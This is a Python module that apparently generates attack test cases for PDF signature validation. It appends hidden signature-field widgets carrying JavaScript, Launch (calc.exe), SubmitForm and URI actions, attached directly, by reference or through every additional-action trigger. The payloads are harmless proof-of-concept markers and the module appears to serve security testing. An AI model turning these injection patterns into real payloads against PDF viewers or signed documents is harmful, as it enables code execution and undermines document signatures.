"""Actions of every trigger inside a new signature field, direct or by reference."""

from . import base
from .case import Case
from .update import File

ACTIONS = {
    "script": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "launch": b"<< /S /Launch /F (calc.exe) >>",
    "submit": b"<< /S /SubmitForm /F << /FS /URL /F (https://example.org/) >> >>",
    "address": b"<< /S /URI /URI (https://example.org/) >>",
}
TRIGGERS = (b"E", b"X", b"D", b"U", b"Fo", b"Bl", b"PO", b"PC", b"PV", b"PI", b"K", b"F", b"V", b"C")


def attacks(state: str, signer: str, file: File):
    for name, action in ACTIONS.items():
        yield Case("trigger", f"{name}-{state}", signer, field(file, b"/A %s" % action, {}))
        held = file.new()
        yield Case("trigger", f"{name}-by-reference-{state}", signer, field(file, b"/A %d 0 R" % held, {held: action}))
    for trigger in TRIGGERS:
        keys = b"/AA << /%s %s >>" % (trigger, ACTIONS["script"])
        yield Case("trigger", f"on-{trigger.decode()}-{state}", signer, field(file, keys, {}))


def field(file: File, keys: bytes, more: dict[int, bytes]) -> bytes:
    added, form = file.new(), file.form()
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Acting) /F 132 /P %d 0 R /Rect [0 0 0 0] %s >>"
    return file.update(
        {
            added: widget % (base.PAGE, keys),
            base.PAGE: file.on_page(added),
            form: file.with_keys(form, Fields=b"[%s %d 0 R]" % (file.array(form, "/Fields"), added)),
            **more,
        }
    )
